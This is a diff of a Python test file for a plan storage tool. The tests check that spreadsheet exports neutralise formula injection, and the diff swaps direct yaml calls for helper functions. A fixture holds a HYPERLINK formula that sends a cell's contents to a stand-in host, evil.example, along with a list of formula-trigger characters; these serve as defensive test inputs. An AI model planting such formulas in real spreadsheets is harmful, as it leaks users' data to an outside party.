@@ -8,11 +8,10 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-import yaml
 from openpyxl import load_workbook
 
 from storage.database import Database
-from storage.planfiles import SAMPLE_PLAN
+from tests.planyaml import dump_raw, read_raw, sample_raw
 from tests.storage.test_planfiles import export, import_file, snapshot
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Evidence pack")'
@@ -21,7 +20,7 @@ DANGEROUS = "=+-@\t\r"
 
 def hostile_plan(tmp_path: Path) -> Path:
     """The sample, with texts a spreadsheet would run, in every kind of cell we write."""
-    raw: dict[str, Any] = yaml.safe_load(SAMPLE_PLAN.read_text(encoding="utf-8"))
+    raw: dict[str, Any] = sample_raw()
     first = raw["themes"][0]["actions"]
     first[0]["text"] = FORMULA
     first[1]["outcome"] = "+44 20 7946 0000 is the helpline"
@@ -34,7 +33,7 @@ def hostile_plan(tmp_path: Path) -> Path:
     raw["reporting"][0]["what"] = "@board"
     raw["reporting"][0]["cadences"][0]["label"] = "+quarterly"
     path = tmp_path / "hostile.yaml"
-    path.write_text(yaml.safe_dump(raw, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    path.write_text(dump_raw(raw, allow_unicode=True, sort_keys=False), encoding="utf-8")
     return path
 
 
@@ -81,7 +80,7 @@ def test_no_xlsx_cell_is_a_formula_and_the_workbook_reimports_exactly(
 def test_yaml_keeps_the_text_as_written(hostile: Database, tmp_path: Path) -> None:
     before = snapshot(hostile)
     export(hostile, tmp_path / "plan.yaml")
-    raw = yaml.safe_load((tmp_path / "plan.yaml").read_text(encoding="utf-8"))
+    raw = read_raw(tmp_path / "plan.yaml")
     assert raw["themes"][0]["actions"][0]["text"] == FORMULA
     import_file(hostile, tmp_path / "plan.yaml")
     assert snapshot(hostile) == before
